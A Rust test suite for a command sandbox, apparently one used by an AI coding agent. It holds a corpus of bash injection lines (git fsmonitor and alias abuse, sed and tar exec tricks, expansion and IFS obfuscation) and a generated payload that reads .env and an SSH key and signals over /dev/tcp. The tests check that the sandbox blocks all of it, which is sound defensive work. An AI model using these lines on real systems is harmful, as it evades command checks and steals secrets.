//! Command lines that did harm elsewhere, run as if every check had let them through. None may leave a
//! trace outside of its grants or reach the machine's network.

use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt as _;

use super::*;

/// Lines for bash. `CANARY` becomes a file outside of the grants, and `touch CANARY` a program that
/// tries more than that.
const LINES: &[(&str, &str)] = &[
    ("CMD-01", "ls\ntouch CANARY"),
    ("CMD-02", "ls & touch CANARY"),
    ("CMD-03", "cat <(touch CANARY)"),
    ("CMD-04", "echo ${one=\"$\"}${two=\"$one(touch CANARY)\"}${two@P}"),
    ("CMD-05", "echo ${a:='$(touch CANARY)'} ${a@P}"),
    ("CMD-06", "echo $(($(touch CANARY; echo 1)))"),
    ("CMD-07", "[[ 'a[$(touch CANARY)]' -eq 0 ]]"),
    ("CMD-08", "test -v 'a[$(touch CANARY)]'"),
    ("CMD-09", "echo $[$(touch CANARY; echo 1)]"),
    ("CMD-10", "echo `touch CANARY`"),
    ("CMD-12", "echo \"$(touch CANARY)\""),
    ("CMD-13", "cat <<EOF\n$(touch CANARY)\nEOF"),
    ("CMD-15", "git show > CANARY"),
    ("CMD-16", "echo x &> CANARY"),
    ("CMD-17", "echo x >| CANARY"),
    (
        "CMD-18",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='touch CANARY;false' git status",
    ),
    ("CMD-19", "GIT_SSH_COMMAND='touch CANARY #' git ls-remote ssh://h/x"),
    ("CMD-20", "PATH=.:$PATH evil-ls </dev/null"),
    ("CMD-21", "git -c core.fsmonitor='touch CANARY;false' status"),
    ("CMD-22", "git -c alias.x='!touch CANARY' x"),
    ("CMD-23", "git ls-remote --upload-pack='touch CANARY;false' ."),
    ("CMD-24", "git log -1 --output=CANARY"),
    ("CMD-25", "git -c diff.external='touch CANARY;true' diff"),
    ("CMD-26", "git status"),
    ("CMD-27", "find . -maxdepth 1 -name seed.txt -exec touch CANARY \\;"),
    ("CMD-28", "find OUTSIDE -maxdepth 1 -name victim -delete"),
    ("CMD-29", "xargs touch < list.txt"),
    ("CMD-30", "sed -n '1e touch CANARY' seed.txt"),
    ("CMD-31", "sed 's|seed|touch CANARY|e' seed.txt"),
    ("CMD-32", "sort -o CANARY seed.txt"),
    ("CMD-33", "awk 'BEGIN{system(\"touch CANARY\")}'"),
    ("CMD-34", "tar -cf /dev/null seed.txt --checkpoint=1 --checkpoint-action=exec='touch CANARY'"),
    ("CMD-35", "rg --pre ./evil.sh seed seed.txt"),
    ("CMD-36", "ls;touch${IFS}CANARY"),
    ("CMD-37", "t\"ou\"ch CANARY"),
    ("CMD-38", "env -i touch CANARY"),
    ("CMD-39", "ls(){ touch CANARY; }; ls"),
    ("CMD-40", "hash -p ./evil.sh ls; ls </dev/null"),
    ("CMD-41", "trap 'touch CANARY' EXIT"),
    ("CMD-43", "echo ok # '\ntouch CANARY # '"),
    ("CMD-44", "true; true; true; true; true; true; true; true; true; true; touch CANARY"),
    ("CMD-45", "grep seed seed.txt;                                        touch CANARY"),
    ("CMD-46", "ls\u{a0};touch CANARY"),
    ("CMD-49", "cd .roo && echo '{}' > mcp.json"),
    ("CMD-50", "echo '{}' | tee .roo/mcp.json"),
    ("CMD-51", "cd glob && tar -cf /dev/null *"),
    ("CMD-56", "source ./evil.sh </dev/null"),
    ("CMD-57", "time touch CANARY"),
    ("CMD-58", "coproc touch CANARY; wait"),
    ("CMD-59", "(touch CANARY)"),
    ("CMD-60", "for i in 1; do touch CANARY; done"),
    ("CMD-61", "if true; then touch CANARY; fi"),
    ("CMD-62", "to\\\nuch CANARY"),
];

/// Lines that do nothing even without a sandbox: git's injected configuration already keeps them from
/// it (26), or a program is missing here (35).
const HARMLESS: &[&str] = &["CMD-26", "CMD-35"];

/// A workspace as the corpus wants it. `payload` is what a canary does.
fn set_up(house: &House, port: u16) {
    let ws = house.at("ws");
    let outside = house.at("out").display().to_string();
    let program = |name: &str, text: &str| {
        fs::write(ws.join(name), text).unwrap();
        fs::set_permissions(ws.join(name), fs::Permissions::from_mode(0o755)).unwrap();
    };
    let payload = format!(
        "#!/bin/bash\ntouch {ws}/ran\ntouch {outside}/CANARY\necho x >>{outside}/victim\n\
         touch {ws}/.roo/mcp.json {ws}/.vscode/tasks.json\necho x >{ws}/AGENTS.md\n\
         cat {ws}/.env {home}/.ssh/id_ed25519 >{ws}/stolen\n(echo canary >/dev/tcp/127.0.0.1/{port})\n",
        ws = ws.display(),
        home = house.at("home").display(),
    );
    program("payload", &payload);
    program("evil.sh", &format!("#!/bin/bash\n{}/payload; cat", ws.display()));
    fs::copy(ws.join("evil.sh"), ws.join("evil-ls")).unwrap();
    fs::write(house.at("out/victim"), "victim").unwrap();
    fs::write(ws.join("list.txt"), format!("{outside}/CANARY")).unwrap();
    fs::write(ws.join("seed.txt"), "seed\n").unwrap();
    fs::create_dir_all(ws.join("glob")).unwrap();
    for name in ["a", "--checkpoint=1", "--checkpoint-action=exec=sh evil.sh"] {
        fs::write(ws.join("glob").join(name), "").unwrap();
    }
    fs::copy(ws.join("evil.sh"), ws.join("glob/evil.sh")).unwrap();
    let git = "git init -q && git config user.name a && git config user.email a@b && git add seed.txt && \
               git commit -q -m one && echo more >>seed.txt && git config core.fsmonitor ./payload";
    let done = std::process::Command::new("bash").args(["-c", git]).current_dir(&ws).output().unwrap();
    assert!(done.status.success(), "{done:?}");
}

/// What a line did to the world outside of its grants.
fn harm(house: &House, listener: &TcpListener) -> Vec<&'static str> {
    let read = |name: &str| fs::read_to_string(house.at(name)).unwrap_or_default();
    let harm = [
        (house.names("out") != ["kept.txt", "victim"], "a file appeared or went outside"),
        (read("out/victim") != "victim", "a file outside was changed"),
        (!house.names("ws/.roo").is_empty(), "a protected file appeared"),
        (house.names("ws/.vscode") != ["settings.json"], "a protected file appeared"),
        (read("ws/AGENTS.md") != "be good", "a protected file was changed"),
        (read("ws/stolen").contains("canary-secret"), "a secret was read"),
        (listener.accept().is_ok(), "the network was reached"),
    ];
    harm.into_iter().filter(|(done, _)| *done).map(|(_, what)| what).collect()
}

fn lines(house: &House) -> impl Iterator<Item = (&'static str, String)> {
    let (outside, payload) =
        (house.at("out").display().to_string(), house.at("ws/payload").display().to_string());
    LINES.iter().flat_map(move |(id, line)| {
        let line = line.replace("OUTSIDE", &outside);
        let file = line.replace("CANARY", &format!("{outside}/CANARY"));
        let program = line.replace("touch CANARY", &payload).replace("CANARY", &format!("{outside}/CANARY"));
        let mut both = vec![file, program];
        both.dedup();
        both.into_iter().map(move |line| (*id, line))
    })
}

#[tokio::test]
async fn no_line_of_the_corpus_leaves_a_trace() {
    let house = House::new().await;
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    set_up(&house, listener.local_addr().unwrap().port());
    let mut ran = 0;
    for (id, line) in lines(&house) {
        let (_, output) = house.sh(&line).await;
        assert_eq!(harm(&house, &listener), [""; 0], "{id}: {line}\n{output}");
        ran += usize::from(fs::remove_file(house.at("ws/ran")).is_ok());
        for name in ["stolen", ".git/index.lock"] {
            let _ = fs::remove_file(house.at("ws").join(name));
        }
    }
    assert!(ran >= 35, "only {ran} payloads ran at all: this test tries nothing");
}

/// The corpus is alive: without a sandbox almost every line does its harm.
#[tokio::test]
async fn without_a_sandbox_they_do() {
    for (id, line) in LINES.iter().filter(|(id, _)| !HARMLESS.contains(id)) {
        let house = House::with(Sandbox::none("this shows what it is for"));
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        set_up(&house, listener.local_addr().unwrap().port());
        let (_, line) = lines(&house).find(|(found, _)| found == id).unwrap_or((id, (*line).to_owned()));
        exec::run(&house.command(&line), &house.environment(), |_| {}, &CancellationToken::new())
            .await
            .unwrap();
        assert_ne!(harm(&house, &listener), [""; 0], "{id}: {line}");
    }
}

#[tokio::test]
async fn by_landlock_alone_no_line_leaves_a_trace_outside() {
    let house = House::with_landlock().await;
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    set_up(&house, listener.local_addr().unwrap().port());
    for (id, line) in lines(&house) {
        let (_, output) = house.sh(&line).await;
        let harm = harm(&house, &listener);
        // What lies within a grant is restored afterwards, by the room of changes.
        let outside = harm.iter().any(|what| what.contains("outside") || what.contains("network"));
        assert!(!outside, "{id}: {line}: {harm:?}\n{output}");
    }
}
